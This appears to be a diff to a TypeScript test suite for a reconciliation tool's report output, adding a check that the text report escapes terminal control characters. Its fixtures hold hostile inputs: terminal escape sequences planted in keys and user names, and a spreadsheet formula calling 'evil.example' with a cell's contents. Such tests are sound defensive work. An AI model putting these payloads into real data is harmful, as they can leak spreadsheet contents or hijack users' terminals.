@@ -9,12 +9,15 @@ import { buildReport, readReportHead, readReportLists } from '../../src/reconcil
 import { reportToCsv } from '../../src/reconcile/reportCsv.js';
 import { reportPage } from '../../src/reconcile/reportPage.js';
 import { reportChunks } from '../../src/reconcile/reportStream.js';
+import { reportToText } from '../../src/reconcile/reportText.js';
 import { maillon } from '../helpers/cli.js';
 import { createFlowFixture, type FlowFixture } from '../helpers/flowFixture.js';
 
 const NOW = new Date('2025-01-10T12:00:00Z');
 const LARGE = 200_000;
 // Dossier keys a spreadsheet would run as formulas (the first one calls out with the cell beside it).
+// A dossier key that would clear the screen and turn it red (ESC, then the C1 CSI).
+const TERMINAL_KEY = 'D\u001b[2J\u009b31m';
 const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"D08")', '+1', '@SUM(A1)', '\tTAB', '\rCR', '\uff1d1', '\uff0d1'];
 
 /** A slow reader that records each write's size and the most it was ever left holding. */
@@ -68,6 +71,14 @@ describe('reports stream to their output', () => {
        WHERE (run_id, ordinal) = (SELECT run_id, ordinal FROM maillon.record_outcomes WHERE run_id = $1 AND file_key = $2 AND outcome = 'emitted' ORDER BY ordinal LIMIT 1)`,
       [runId, files[0]!.file_key],
     );
+    // A key, a reply's code and a user name that would drive a terminal (ESC, a C1 CSI, BEL).
+    await fx.db.pool.query(
+      `UPDATE maillon.record_outcomes SET source_key = $3
+       WHERE (run_id, ordinal) = (SELECT run_id, ordinal FROM maillon.record_outcomes WHERE run_id = $1 AND file_key = $2 AND outcome = 'emitted' ORDER BY ordinal LIMIT 1)`,
+      [runId, files[1]!.file_key, TERMINAL_KEY],
+    );
+    await fx.db.pool.query(`UPDATE maillon.files SET ack_errors = ack_errors || $2::text[] WHERE file_id = $1`, [files[0]!.file_id, ['\u001b]0;owned\u0007']]);
+    await fx.db.pool.query(`UPDATE maillon.runs SET started_by = 'ops\u001b[8m' WHERE run_id = $1`, [runId]);
     await fx.db.pool.query(`INSERT INTO maillon.replies (server, name, received_at, state, reason, file_name) VALUES ('s', '@SUM(1+1)', now(), 'set_aside', 'not a reply', $1)`, [
       (await fx.db.pool.query<{ name: string }>(`SELECT name FROM maillon.files WHERE file_id = $1`, [files[0]!.file_id])).rows[0]!.name,
     ]);
@@ -117,6 +128,16 @@ describe('reports stream to their output', () => {
     expect(csv).toContain(`\ndeadline,${report.deadline},${report.daysRemaining},days remaining\n`);
     expect(csv).toContain("\nfact,unallocatedCents,-1250,\nfact,note,'-x,\n");
     expect(await streamed('csv')).toBe(await reportToCsv(report));
+  });
+
+  it('prints no control character of a dossier key, a reply code or a user name in the text report', async () => {
+    const text = await reportToText(await buildReport(fx.db.pool, contributionSlips, '2024-Q1', 'T', NOW));
+    expect(await streamed('text')).toBe(text);
+    // eslint-disable-next-line no-control-regex -- control characters are what is looked for
+    expect(text.replaceAll('\n', '').match(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g)).toBeNull();
+    expect(text).toMatch(/^ {4}rejected +-2\+3 E"1,x,y,line\\x0abreak,\\x1b\]0;owned\\x07$/m);
+    expect(text).toMatch(/^ {4}rejected +D\\x1b\[2J\\x9b31m \\,a;b,é🙂$/m);
+    expect(text).toContain(' by ops\\x1b[8m at ');
   });
 
   it('the command prints the JSON report and writes the CSV to a 0600 file', async () => {
